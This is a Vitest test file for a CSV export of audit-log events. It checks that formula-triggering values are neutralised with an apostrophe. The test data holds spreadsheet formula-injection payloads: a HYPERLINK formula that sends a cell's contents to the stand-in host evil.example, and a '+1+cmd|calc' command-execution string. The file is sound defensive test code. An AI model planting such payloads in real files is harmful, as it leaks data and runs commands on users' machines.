import { describe, expect, it } from 'vitest';
import type { AuditEvent } from './events.ts';
import { exportHeader, exportLine } from './export-format.ts';

function event(over: Partial<AuditEvent>): AuditEvent {
  return {
    seq: 7,
    at: new Date('2026-12-01T10:00:00.000Z'),
    dbRole: 'bulkhead_admin_login',
    id: '00000000-0000-4000-8000-000000000007',
    server: 'admin',
    tokenId: 'tok1',
    tokenLabel: 'laptop',
    clientName: 'claude',
    clientVersion: '1.0',
    method: 'tools/call',
    tool: 'get_ticket',
    arguments: { id: 'T-1' },
    outcome: 'ok',
    resultSummary: null,
    durationMs: -1,
    requestId: 'r1',
    approvalId: null,
    injectionSuspected: false,
    traceId: null,
    ...over,
  };
}

/** The cells of a CSV line whose cells hold no comma (enough for these events). */
function cells(line: string): Record<string, string> {
  const names = exportHeader('csv').trimEnd().split(',');
  const values = line.trimEnd().split(',');
  return Object.fromEntries(names.map((n, i) => [n, values[i]!]));
}

describe('a CSV export', () => {
  it('writes text that a spreadsheet would run as a formula behind an apostrophe', () => {
    const row = cells(
      exportLine(
        event({
          clientName: '=HYPERLINK("https://evil.example/?"&A1)',
          clientVersion: '+1+cmd|calc',
          tokenLabel: '-2+3',
          tool: '@SUM(A1)',
          requestId: '\tr',
          method: '\rx',
        }),
        'csv',
      ),
    );
    expect([
      row.client_name,
      row.client_version,
      row.token_label,
      row.tool,
      row.request_id,
      row.method,
    ]).toEqual([
      `"'=HYPERLINK(""https://evil.example/?""&A1)"`,
      "'+1+cmd|calc",
      "'-2+3",
      "'@SUM(A1)",
      `"'\tr"`,
      `"'\rx"`,
    ]);
  });

  it('leaves numbers, JSON and ordinary text as they are', () => {
    const row = cells(exportLine(event({}), 'csv'));
    expect([row.duration_ms, row.client_name, row.tool, row.seq]).toEqual([
      '-1',
      'claude',
      'get_ticket',
      '7',
    ]);
  });
});
